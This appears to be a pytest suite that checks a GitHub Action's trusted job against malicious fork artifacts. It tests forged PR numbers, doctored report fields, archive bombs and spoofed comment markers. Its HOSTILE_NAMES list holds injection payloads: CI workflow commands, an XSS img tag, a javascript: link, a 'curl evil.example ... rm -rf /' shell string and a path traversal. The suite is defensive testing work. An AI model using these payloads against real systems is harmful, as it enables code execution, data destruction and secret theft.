"""A fork's author controls the artifact of his run, but not what the trusted job writes, or where."""

import json
import re
from collections.abc import Iterator
from dataclasses import replace
from importlib import import_module
from pathlib import Path
from typing import Any, Never

import cmarkgfm
import pytest
from cmarkgfm.cmark import Options
from msgspec import structs

from perf_culprit.github.bot_texts import comment_marker
from perf_culprit.model.finding import Level, Verdict
from perf_culprit.model.reason import BaselineReason, because, remark
from perf_culprit.model.report import Conclusion, encode_report
from perf_culprit.model.run_file import encode_run
from tests.support import reports
from tests.support.adversary import INNOCENT_PULL, MALLORY_PULL, Scene, open_scene
from tests.support.diagnosed_reports import diagnosis, with_suspects
from tests.support.fake_github.state import BOT, FORK_ID, PullRequest
from tests.support.job import JobResult, zipped
from tests.support.stored_runs import make_run

CHECK_WRITES = ["POST check-runs", "PATCH check-runs"]
HOSTILE_NAMES = (
    "::set-output name=regressions::0",
    "x ##[error]pwned",
    "a\n::error::pwned",
    "a\r##[add-mask]x",
    "| a | b |\n|---|---|",
    "</details></td></table><img src=x onerror=alert(1)>",
    "`code` ``` fence\n```\n# Title",
    "@octocat @octo-org/everyone #1 GH-1 octocat/hello#8",
    "[click](javascript:alert(1)) ![x](http://evil.example/x.png)",
    "$(curl evil.example) `id` ; rm -rf / && ${{ secrets.GITHUB_TOKEN }}",
    "<!-- perf-culprit:v1:default -->",
    "EOF\nregressions=0\nfailed<<EOF\nfalse\nEOF",
    "\u202egnp.exe\u2066 \x1b[31mred\x07",
    "{{ view }} {0} %s %n",
    "../../../etc/passwd",
)


@pytest.fixture
def scene(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> Iterator[Scene]:
    with open_scene(tmp_path, monkeypatch, capsys) as opened:
        yield opened


def honest(scene: Scene, **changes: Any) -> bytes:
    level = Level.FAIL if changes.get("failed") else Level.NOTE
    slower = reports.finding("parse", 100, 150, verdict=Verdict.REGRESSION, level=level, rate=1e-6)
    report = structs.replace(reports.report(Conclusion.REGRESSION, slower), target_commit=scene.head)
    return encode_report(structs.replace(report, **changes))


@pytest.mark.parametrize(
    "page", ["render_html", "render_summary", "render_text", "check_texts", "line_remarks", "render_markdown"]
)
def test_wanted_the_trusted_job_ended_by_a_page_that_cannot_be_drawn_got_the_verdict(
    scene: Scene, monkeypatch: pytest.MonkeyPatch, page: str
) -> None:
    """A fork's diagnosis chooses what is drawn. The check, the comment and the exit code are those of the numbers."""

    def fail(*_: object, **__: object) -> Never:
        raise KeyError("\n::error::x")

    for room in ("flows.render", "flows.publish", "action.jobs.job_posts", "say.comment", "say.comparison"):
        if hasattr(import_module(f"perf_culprit.{room}"), page):
            monkeypatch.setattr(f"perf_culprit.{room}.{page}", fail)
    trees = with_suspects(diagnosis(), 13)
    result = scene.publish(
        {"report.json": honest(scene, failed=True, diagnosis=trees)},
        inputs={"html_report": "true", "fail_on_alert": "true"},
    )
    assert result.exit_code == 1, result.log
    (check,) = scene.fake.state.check_runs.values()
    assert check.conclusion == "failure"
    assert kinds(scene) == [*CHECK_WRITES, f"POST issues/{MALLORY_PULL}/comments"]
    texts = [result.log, str(check), result.summary, *(one.body for one in scene.fake.state.comments.values())]
    assert page == "render_html" or any("The rest could not be drawn: KeyError" in text for text in texts)
    assert set(commands(result.log)) <= {"warning", "notice"}


def doctored(scene: Scene, **fields: Any) -> bytes:
    """Return the report's JSON with fields that our code never writes."""
    return json.dumps(json.loads(honest(scene)) | fields).encode()


def kinds(scene: Scene) -> list[str]:
    """Return the requests that changed something, without ids."""
    return [" ".join(part.rstrip("0123456789").rstrip("/") for part in entry.split(" ")) for entry in scene.applied]


def assert_refused(scene: Scene, result: JobResult, *, refs: str, exit_code: int = 3) -> None:
    """Check that nothing was changed, and that the log has one of our messages and none of the fork's commands."""
    assert result.exit_code == exit_code, result.log
    assert scene.writes == []
    assert not scene.fake.state.comments
    assert not scene.fake.state.check_runs
    assert scene.refs == refs
    assert result.outputs == {}
    assert commands(result.log) in ([], ["error"]), result.log
    scene.assert_no_secret(result)


def commands(log: str) -> list[str]:
    """Return the log's commands that the runner would execute, without folds."""
    assert "##[" not in log
    lines = [line.lstrip() for line in log.splitlines()]
    results = [line[2:].partition("::")[0].partition(" ")[0] for line in lines if line.startswith("::")]
    return [name for name in results if name not in ("group", "endgroup")]


def test_an_honest_artifact_is_written_to_this_pull_request_alone(scene: Scene) -> None:
    refs = scene.refs
    result = scene.publish({"report.json": honest(scene)})
    assert result.exit_code == 0, result.log
    assert kinds(scene) == [*CHECK_WRITES, f"POST issues/{MALLORY_PULL}/comments"]
    assert scene.refs == refs
    scene.assert_no_secret(result)


@pytest.mark.parametrize(
    "poison",
    [
        b"",
        b"null",
        b"[]",
        b"[" * 100_000,
        b'{"format":' * 20_000,
        b"\xff\xfe{}",
        b'{"format": "perf-culprit-report", "version": 1e400}',
        b'{"findings": NaN}',
        b"9" * 200_000,
    ],
    ids=["empty", "null", "list", "deep list", "deep object", "no UTF-8", "infinite", "NaN", "digits"],
)
def test_what_is_no_report_is_refused(scene: Scene, poison: bytes) -> None:
    refs = scene.refs
    assert_refused(scene, scene.publish({"report.json": poison}), refs=refs)


@pytest.mark.parametrize(
    "fields",
    [
        {"pull_request": INNOCENT_PULL, "number": INNOCENT_PULL, "issue": INNOCENT_PULL},
        {"repository": "victim/project", "repository_url": "https://evil.example/x"},
        {"target_commit": "8" * 40},
        {"target_commit": None},
        {"run_url": "https://evil.example", "comment": "@octocat"},
    ],
    ids=["another number", "another repository", "forged commit", "no commit", "own texts"],
)
def test_where_to_write_cannot_be_said_in_the_artifact(scene: Scene, fields: dict[str, Any]) -> None:
    """Unknown fields and other commits are refused as a whole: they cannot redirect the comment."""
    refs = scene.refs
    result = scene.publish({"report.json": doctored(scene, **fields)})
    assert result.exit_code == 3, result.log
    assert_refused(scene, result, refs=refs)


def test_other_files_of_the_artifact_say_nothing_either(scene: Scene) -> None:
    """Old actions write the number into a separate file; `comment.md` is for people who read the artifact."""
    refs = scene.refs
    others = {"pr_number.txt": b"8", "NR": b"8", "event.json": b'{"number": 8}', "comment.md": b"# pwned @octocat"}
    result = scene.publish({"report.json": honest(scene), **others})
    assert result.exit_code == 0, result.log
    (comment,) = scene.fake.state.comments.values()
    assert comment.issue == MALLORY_PULL
    assert "pwned" not in comment.body
    assert scene.refs == refs


def test_a_run_that_fits_its_commit_is_still_not_recorded(scene: Scene) -> None:
    """Results of forks never reach the history, however they are made."""
    refs = scene.refs
    run = encode_run(structs.replace(make_run(1), commit=scene.head, suite="default"))
    result = scene.publish({"report.json": honest(scene, suite="default"), "run.json": run})
    assert result.exit_code == 0, result.log
    assert scene.refs == refs
    scene.assert_no_secret(result)


def test_a_forged_run_beside_a_true_report_publishes_nothing(scene: Scene) -> None:
    refs = scene.refs
    run = encode_run(structs.replace(make_run(1), commit="8" * 40, suite="default"))
    assert_refused(scene, scene.publish({"report.json": honest(scene), "run.json": run}), refs=refs)


def test_huge_archives_are_refused_before_they_are_unpacked(scene: Scene) -> None:
    refs = scene.refs
    result = scene.publish(zipped({"report.json": b"0" * (96 << 20)}))
    assert_refused(scene, result, refs=refs)


def test_too_many_reports_are_refused(scene: Scene) -> None:
    refs = scene.refs
    result = scene.publish({f"{number}/report.json": honest(scene) for number in range(200)})
    assert_refused(scene, result, refs=refs)


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_hostile_names_stay_names(scene: Scene, name: str) -> None:
    text = because(BaselineReason.RUN_UNREADABLE, run=name, problem=name)
    finding = reports.finding(
        name, 100, 150, verdict=Verdict.REGRESSION, level=Level.FAIL, rate=1e-6, reason=name, notes=(name, text)
    )
    refs = scene.refs
    data = honest(scene, findings=(finding,), suite=name, notes=(remark(name), text), failed=True)
    result = scene.publish({"report.json": data})
    assert result.exit_code == 0, result.log
    assert kinds(scene) == [*CHECK_WRITES, f"POST issues/{MALLORY_PULL}/comments"]
    (comment,) = scene.fake.state.comments.values()
    assert comment.body.partition("\n")[0] == comment_marker(name)
    html = cmarkgfm.github_flavored_markdown_to_html(comment.body, Options.CMARK_OPT_UNSAFE)
    links = ("http://127", "https://github.com/perf-culprit/perf-culprit/blob/main/docs/glossary.md")
    ours = re.sub("|".join(map(re.escape, links)), "ours:", html)
    assert not re.search(r"<img|<script|<h1|href=.(?!ours:)|<a[^>]*evil", ours), html
    assert "@octocat" not in re.sub(r"<code>.*?</code>|<pre.*?</pre>", "", html, flags=re.DOTALL)
    assert commands(result.log) == []
    assert result.outputs["failed"] == "true"
    assert result.outputs["regressions"] == "1"
    assert scene.refs == refs
    scene.assert_no_secret(result)


def test_a_pasted_marker_is_neither_edited_nor_believed(scene: Scene) -> None:
    pasted = scene.fake.state.add_comment(
        issue=MALLORY_PULL, author="mallory", body=f"{comment_marker('default')}\nno regressions, says the bot"
    )
    impostor = scene.fake.state.add_comment(
        issue=MALLORY_PULL, author="github-actions", body=f"{comment_marker('default')}\nnone"
    )
    elsewhere = scene.fake.state.add_comment(issue=INNOCENT_PULL, author=BOT, body=f"{comment_marker('default')}\nkept")
    result = scene.publish({"report.json": honest(scene)})
    assert result.exit_code == 0, result.log
    assert [comment.writes for comment in (pasted, impostor, elsewhere)] == [1, 1, 1]
    assert kinds(scene) == [*CHECK_WRITES, f"POST issues/{MALLORY_PULL}/comments"]


@pytest.mark.parametrize("case", ["head moved", "closed", "other event", "deleted", "same name"])
def test_a_run_without_its_pull_request_gets_no_comment(scene: Scene, case: str) -> None:
    state = scene.fake.state
    pull = state.pulls[MALLORY_PULL]
    if case == "head moved":
        pull.head_sha = "9" * 40
    elif case == "closed":
        pull.state = "closed"
    elif case == "two pull requests":
        state.pulls[9] = replace(pull, number=9)
    elif case == "deleted":
        del state.pulls[MALLORY_PULL]
    elif case == "same name":
        # Another fork's branch of the same name.
        del state.pulls[MALLORY_PULL]
        state.pulls[9] = PullRequest(
            number=9, head_sha=scene.head, head_branch="faster", head_owner="eve", head_repository_id=FORK_ID + 1
        )
    refs = scene.refs
    state.add_artifact(
        name="perf-culprit-report", run_id=55, head_sha=scene.head, zip_bytes=zipped({"report.json": honest(scene)})
    )
    result = scene.follow(run_event="workflow_dispatch") if case == "other event" else scene.follow()
    assert result.exit_code == 0, result.log
    assert kinds(scene) == CHECK_WRITES
    assert not state.comments
    assert scene.refs == refs
    scene.assert_no_secret(result)


def test_a_fork_that_pushes_to_its_own_main_is_not_our_main(scene: Scene) -> None:
    """Anyone can have a branch `main` and an event `push` in a fork."""
    refs = scene.refs
    run = encode_run(structs.replace(make_run(1), commit=scene.head, suite="default"))
    files = {"report.json": honest(scene, suite="default"), "run.json": run}
    scene.fake.state.add_artifact(name="perf-culprit-report", run_id=55, head_sha=scene.head, zip_bytes=zipped(files))
    result = scene.follow(run_event="push", head_branch="main")
    assert result.exit_code == 0, result.log
    assert scene.refs == refs
    assert not scene.fake.state.comments


def test_the_artifact_of_another_run_or_commit_is_not_taken(scene: Scene) -> None:
    refs = scene.refs
    content = zipped({"report.json": honest(scene)})
    scene.fake.state.add_artifact(name="perf-culprit-report", run_id=56, head_sha=scene.head, zip_bytes=content)
    scene.fake.state.add_artifact(name="perf-culprit-report", run_id=55, head_sha="8" * 40, zip_bytes=content)
    assert_refused(scene, scene.follow(), refs=refs)
